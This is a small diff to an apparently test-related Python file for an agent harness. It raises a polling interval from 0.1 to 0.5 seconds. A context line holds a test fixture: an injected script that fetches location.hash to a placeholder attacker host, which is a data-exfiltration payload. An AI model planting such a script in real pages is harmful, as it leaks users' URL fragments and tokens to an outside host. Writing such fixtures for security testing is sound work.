@@ -31,6 +31,8 @@ _BROKEN_PDF = (
     "2 0 obj\n{}\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n0\n%%EOF"
 )
 _HASH = "<script>fetch('{evil}/hash?' + location.hash.slice(1), {{mode: 'no-cors'}});</script>"
+_LOOK_AGAIN_SECONDS = 0.5
+"""Many people look at once: more often, and looking is most of the work."""
 
 
 def load_with_toys(toolbox: Toolbox) -> Registry:
@@ -72,7 +74,7 @@ class Keeper:
         while turn.get("state") not in {"answered", "stopped", "failed"}:
             for waiting in turn.get("approvals", ()):
                 await self._decides(outcome, waiting, approved=approved)
-            await asyncio.sleep(0.1)
+            await asyncio.sleep(_LOOK_AGAIN_SECONDS)
             turn = await self.person.turn(turn["turn_id"])
         outcome.state = turn["state"]
         return turn
